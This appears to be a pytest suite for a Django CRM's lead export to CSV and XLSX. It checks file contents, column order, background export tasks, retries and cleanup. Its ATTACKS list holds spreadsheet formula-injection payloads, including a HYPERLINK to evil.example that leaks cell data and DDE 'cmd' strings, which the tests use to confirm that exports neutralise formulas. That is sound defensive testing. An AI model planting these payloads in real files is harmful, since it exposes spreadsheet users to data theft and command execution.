"""Files of leads: what they hold, that no spreadsheet takes a cell for a formula, and files that take their time."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from agents.models import AgentProfile
from leads import exports, tasks
from leads.exports import make_export, restart_export, start_export, write_file
from leads.models import Export, Lead
from leads.models.exports import LOST_AFTER
from leads.tables import CHUNK, Amount, Phone, csv_cell, write_csv, write_xlsx
from tests.leads.making import NUMBER, make_lead, put

EXPORT = "admin:leads_lead_export"
STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "%0A=1",
    "|calc",
    '"=1+1',
]

pytestmark = pytest.mark.usefixtures("files")


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel takes it for another encoding without the mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]


def exported(ids: Sequence[int], file_format: str = "csv") -> list[dict[str, Any]]:
    """The rows of a file by the names of their columns."""
    file = io.BytesIO()
    write_file(file, ids, file_format)
    head, *rows = read_csv(file.getvalue()) if file_format == "csv" else read_xlsx(file.getvalue())
    return [dict(zip(head, row, strict=True)) for row in rows]


def whole_lead(agent: AgentProfile) -> Lead:
    lead = make_lead(agent, call={"source": {"page": "https://example.in"}}, summary="Wants a flat.\nOn Sunday.")
    put(lead, "name", "राहुल शर्मा")
    put(lead, "phone", NUMBER)
    put(lead, "budget", "7500000")
    put(lead, "need", "2 BHK", "inferred")
    return lead


# What a file holds ------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_row_is_a_person_with_all_that_counts(agent: AgentProfile, file_format: str, meera: User) -> None:
    lead = whole_lead(agent)
    later = make_lead(agent, joined_to=lead)
    put(later, "email", "rahul@example.in")
    Lead.objects.filter(pk=lead.pk).update(owner=meera, notes="முதல்", follow_up_on="2026-12-01", latin_name="Rahul")
    (row,) = exported([lead.pk], file_format)
    assert row["name"] == "राहुल शर्मा"
    assert row["phone"] == ("+91 98450 12345" if file_format == "csv" else NUMBER)
    assert row["budget"] == ("7500000" if file_format == "csv" else 7500000)
    assert (row["email"], row["Notes"], row["Owner"]) == ("rahul@example.in", "முதல்", "meera")
    assert (row["Follow up on"], row["Name in Latin letters"]) == ("2026-12-01", "Rahul")
    assert (row["Summary"], row["Source"]) == ("Wants a flat.\nOn Sunday.", "page: https://example.in")
    assert (row["need"], row["Not certain"]) == ("", "need: 2 BHK"), "what no turn supports is no fact"
    assert (row["Language"], row["Status"]) == ("Hindi", "New")


@pytest.mark.django_db
def test_columns_and_rows_keep_their_order(agent: AgentProfile) -> None:
    leads = [whole_lead(agent) for _ in range(3)]
    put(leads[0], "email", "r@example.in")
    rows = exported([lead.pk for lead in reversed(leads)])
    assert [row["Lead"] for row in rows] == [str(lead.pk) for lead in reversed(leads)]
    keys = [name for name in rows[0] if name.islower()]
    assert keys == ["name", "phone", "email", "budget", "need"]


@pytest.mark.django_db
def test_who_joined_is_locked_or_gone_meanwhile_is_left_out(agent: AgentProfile) -> None:
    stays, joined, locked, gone = (whole_lead(agent) for _ in range(4))
    Lead.objects.filter(pk=joined.pk).update(joined_to=stays)
    Lead.objects.filter(pk=locked.pk).update(locked_at=timezone.now())
    ids = [stays.pk, joined.pk, locked.pk, gone.pk]
    gone.delete()
    assert [row["Lead"] for row in exported(ids)] == [str(stays.pk)]


# No formula -------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_of_a_caller_or_a_model_is_a_formula(agent: AgentProfile, attack: str) -> None:
    text = attack.replace("\0", "")  # which Postgres keeps nobody's text with
    lead = make_lead(agent, call={"source": {text[:30]: text}}, summary=text, notes=text, latin_name=text)
    for key in ("name", "phone", "email", "budget", "need"):
        put(lead, key, text)
    put(lead, "unsure", text, "inferred")
    AgentProfile.objects.update(name=text)
    (row,) = exported([lead.pk])
    assert not [cell for cell in row.values() if cell.lstrip().startswith(STARTS) or cell.startswith(STARTS)]
    file = io.BytesIO()
    write_file(file, [lead.pk], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(file.getvalue())).active
    assert {cell.data_type for line in sheet.iter_rows() for cell in line if cell.value is not None} == {"s"}
    assert {cell.number_format for line in sheet.iter_rows() for cell in line if cell.value is not None} == {"@"}


@given(st.text(), st.sampled_from([str, Phone]))
@hypothesis_settings(deadline=None)
def test_no_cell_begins_like_a_formula(text: str, kind: type[str]) -> None:
    cell = csv_cell(kind(text))
    assert not cell.startswith(STARTS) or cell.replace(" ", "")[1:].isdigit()
    assert not cell.strip().startswith(("=", "@", "-", "|", "%"))


@given(st.lists(st.lists(st.text(), min_size=1, max_size=3), min_size=1, max_size=3))
@hypothesis_settings(deadline=None, max_examples=50)  # a workbook takes its time
def test_any_table_can_be_written_and_read(rows: list[list[str]]) -> None:
    file, sheet = io.BytesIO(), io.BytesIO()
    write_csv(file, rows)
    assert len(read_csv(file.getvalue())) == len(rows)
    write_xlsx(sheet, rows)
    read_xlsx(sheet.getvalue())


@pytest.mark.parametrize(
    ("cell", "in_csv"),
    [
        (Phone("+919845012345"), "+91 98450 12345"),
        (Phone("+12025550123"), "+1 202 555 0123"),
        (Phone("+999"), "'+999"),
        (Phone("=1+1"), "'=1+1"),
        (Amount("7500000"), "7500000"),
        ("राहुल", "राहुल"),
        ("a-b=c", "a-b=c"),
        ("", ""),
    ],
)
def test_a_cell_in_csv(cell: str, in_csv: str) -> None:
    assert csv_cell(cell) == in_csv


def test_what_is_too_long_for_excel_is_cut() -> None:
    sheet = io.BytesIO()
    write_xlsx(sheet, [["head"], ["x" * 40_000]])
    assert len(read_xlsx(sheet.getvalue())[1][0]) == 32_767


# From the list ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_file_holds_what_the_list_lets_through(staff: Client, agent: AgentProfile) -> None:
    won, _new = whole_lead(agent), whole_lead(agent)
    Lead.objects.filter(pk=won.pk).update(status="won")
    listed = staff.get(reverse("admin:leads_lead_changelist"), {"status__exact": "won"}).content.decode()
    address = f"{reverse(EXPORT)}?status__exact=won"
    assert f'href="{address}"' in listed
    assert "1 lead, a row a person." in staff.get(address).content.decode()
    answer = staff.post(address, {"format": "csv"})
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="leads-20')
    assert [row[0] for row in read_csv(answer.content)[1:]] == [str(won.pk)]
    assert "attachment" not in staff.post(address, {"format": "pdf"}).headers.get("Content-Disposition", "")


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_chosen_ones_are_a_file(staff: Client, agent: AgentProfile, file_format: str) -> None:
    chosen, _other = whole_lead(agent), whole_lead(agent)
    form = {"action": f"export_{file_format}", "_selected_action": [chosen.pk]}
    content = staff.post(reverse("admin:leads_lead_changelist"), form).content
    rows = read_csv(content) if file_format == "csv" else read_xlsx(content)
    assert [row[0] for row in rows[1:]] == [str(chosen.pk)]


@pytest.mark.django_db
def test_many_become_a_file_that_is_made_and_fetched(
    staff: Client, agent: AgentProfile, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("leads.admin.exporting.MOST_AT_ONCE", 2)
    leads = [whole_lead(agent) for _ in range(3)]
    answer = staff.post(reverse(EXPORT), {"format": "csv"})
    page = answer.headers["Location"]
    file = reverse("admin:leads_lead_export_file", args=[Export.objects.get().pk])
    assert "0 of 3 leads are written" in staff.get(page).content.decode()
    assert staff.get(file).headers["Location"] == page, "there is none yet"
    tasks.make_export(Export.objects.get().pk)
    assert "ready" in staff.get(page, {"part": ""}).content.decode()
    download: Any = staff.get(file)
    content = b"".join(download.streaming_content)
    assert {row[0] for row in read_csv(content)[1:]} == {str(lead.pk) for lead in leads}
    stranger = Client()
    other = User.objects.create_user("asha", is_staff=True)
    other.groups.set(Group.objects.filter(name="Reviewers"))
    stranger.force_login(other)
    assert {stranger.get(page).status_code, stranger.get(file).status_code} == {404}


# Made by a task ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_it_says_how_far_it_is(agent: AgentProfile, meera: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("leads.tables.CHUNK", 2)
    export = start_export([whole_lead(agent).pk for _ in range(5)], "xlsx", meera)
    seen: list[int] = []
    write = exports._WRITERS[Export.Format.XLSX]

    def watched(stream: Any, rows: Any) -> None:
        def noted() -> Iterator[Any]:
            for row in rows:
                seen.append(Export.objects.get().done)
                yield row

        write(stream, noted())

    monkeypatch.setitem(exports._WRITERS, Export.Format.XLSX, watched)
    make_export(export.pk)
    assert seen == [0, 0, 0, 2, 2, 4]
    assert Export.objects.get().status == "done"
    assert CHUNK > 2


@pytest.mark.django_db
def test_made_twice_there_is_one_file(agent: AgentProfile, meera: User, files: Path) -> None:
    export = start_export([whole_lead(agent).pk], "csv", meera)
    make_export(export.pk)
    make_export(export.pk)
    assert len(list(files.rglob("*.csv"))) == 1


@pytest.mark.django_db
def test_one_that_nobody_wants_any_more_leaves_nothing(agent: AgentProfile, meera: User, files: Path) -> None:
    export = start_export([whole_lead(agent).pk], "csv", meera)
    write = exports._WRITERS[Export.Format.CSV]

    def erased_meanwhile(stream: Any, rows: Any) -> None:
        write(stream, rows)
        Export.objects.all().delete()

    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(exports._WRITERS, Export.Format.CSV, erased_meanwhile)
        make_export(export.pk)
    assert not list(files.rglob("*.csv"))


@pytest.mark.django_db
def test_one_that_failed_or_was_lost_is_started_again(
    agent: AgentProfile, meera: User, staff: Client, settings: Any, files: Path
) -> None:
    export = start_export([whole_lead(agent).pk], "csv", meera)
    assert not restart_export(export), "it is under way"
    right = settings.STORAGES
    broken = {**right["default"], "OPTIONS": {"location": "/proc/nowhere"}}
    settings.STORAGES = {**right, "default": broken}
    with pytest.raises(OSError, match="nowhere"):
        make_export(export.pk)
    settings.STORAGES = right
    page = reverse("admin:leads_lead_one_export", args=[export.pk])
    assert "could not be made" in staff.get(page).content.decode()
    staff.post(page)
    assert Export.objects.get().status == "waiting"
    Export.objects.update(moved_at=timezone.now() - LOST_AFTER)
    assert "Try again" in staff.get(page).content.decode()
    assert restart_export(Export.objects.get())
    make_export(export.pk)
    assert not restart_export(Export.objects.get())
    assert Export.objects.get().status == "done"


@pytest.mark.django_db
def test_files_are_gone_after_a_week(agent: AgentProfile, meera: User, files: Path) -> None:
    old, young = (start_export([whole_lead(agent).pk], "csv", meera) for _ in range(2))
    for export in (old, young):
        make_export(export.pk)
    Export.objects.filter(pk=old.pk).update(asked_at=timezone.now() - timedelta(days=7, minutes=1))
    tasks.drop_old_exports()
    left = Export.objects.get()
    assert left == young
    assert [default_storage.exists(left.file), len(list(files.rglob("*.csv")))] == [True, 1]
